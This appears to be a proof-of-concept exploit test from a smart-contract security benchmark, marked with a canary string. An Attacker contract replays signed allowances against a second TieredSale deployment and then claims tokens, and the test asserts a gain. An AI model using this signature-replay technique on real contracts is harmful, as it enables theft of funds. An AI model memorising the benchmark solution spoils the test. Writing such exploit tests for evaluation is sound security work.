// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

// assay-canary-930fad3b-ea4e-4faa-b638-33944248d408
import "../Base.sol";

contract Attacker {
    Allowances.Allowance private allowance;
    bytes[] private signatures;

    function see(Allowances.Allowance calldata allowance_, bytes calldata signature) external {
        allowance = allowance_;
        signatures.push(signature);
    }

    function run(IERC20 coin, TieredSale sale) external {
        coin.approve(address(sale), 60_000e18);
        for (uint256 i = 0; i < 2; i++) {
            try sale.commitAllowed(60_000e18, allowance, signatures[i], address(0)) {} catch {}
        }
    }

    function end(TieredSale sale) external {
        sale.finalize();
        sale.claim(address(this));
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        coin.mint(address(other), 60_000e18);
        Allowances.Allowance memory a = allowance(address(other), 60_000e18);
        other.see(a, signedFor(address(sale), a));
        other.see(a, signedFor(address(registry), a));
    }

    /// Of the two, one is what the signer signs for the sale.
    function signedFor(address verifier, Allowances.Allowance memory a) private returns (bytes memory) {
        bytes32 digest = Allowances.digestOf(Allowances.domainOf(verifier), a);
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(SIGNER_KEY, digest);
        return abi.encodePacked(r, s, v);
    }

    function exploit() public {
        other.run(coin, second);
        vm.warp(START + 11 days);
        other.end(second);
    }

    function test_Exploit() public {
        exploit();
        require(moss.balanceOf(address(other)) >= 12_000e18, "no gain");
    }

    function target() public view override returns (address) {
        return address(second);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
